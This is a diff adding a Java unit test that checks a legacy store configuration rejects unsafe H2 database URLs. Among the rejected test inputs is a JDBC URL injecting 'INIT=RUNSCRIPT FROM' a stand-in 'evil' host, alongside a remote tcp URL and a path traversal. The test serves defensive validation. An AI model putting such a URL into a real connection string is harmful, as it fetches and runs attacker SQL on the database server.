@@ -44,6 +44,23 @@ class LegacyStoreConfigTest {
     }
 
     @Test
+    void h2FilesOnlyInTheFolderTheOperatorAllowsAndWithoutSettings() {
+        java.nio.file.Path demo = java.nio.file.Path.of("/srv/ciam/legacy");
+        LegacyStoreConfig inside = LegacyStoreConfig.of(component("jdbc:h2:file:/srv/ciam/legacy/old-shop"));
+
+        assertThat(inside.isH2File()).isTrue();
+        assertThat(inside.problems(demo)).isEmpty();
+        assertThat(inside.problems(null)).as("no folder allowed by the operator").hasSize(1);
+        assertThat(inside.problems()).hasSize(1);
+        for (String url : new String[] {"jdbc:h2:file:/srv/ciam/other/shop", "jdbc:h2:file:/srv/ciam/legacy/../x",
+                "jdbc:h2:file:/srv/ciam/legacy/shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+                "jdbc:h2:file:/srv/ciam/legacy/shop;IFEXISTS=FALSE", "jdbc:h2:mem:shop", "jdbc:h2:tcp://evil/shop",
+                "jdbc:h2:file:/srv/ciam/legacy"}) {
+            assertThat(LegacyStoreConfig.of(component(url)).problems(demo)).as(url).isNotEmpty();
+        }
+    }
+
+    @Test
     void moreColumnsMapToAttributes() {
         ComponentModel model = component("jdbc:mariadb://legacy/shop");
         model.getConfig().put(LegacyStoreConfig.ATTRIBUTE_COLUMNS,
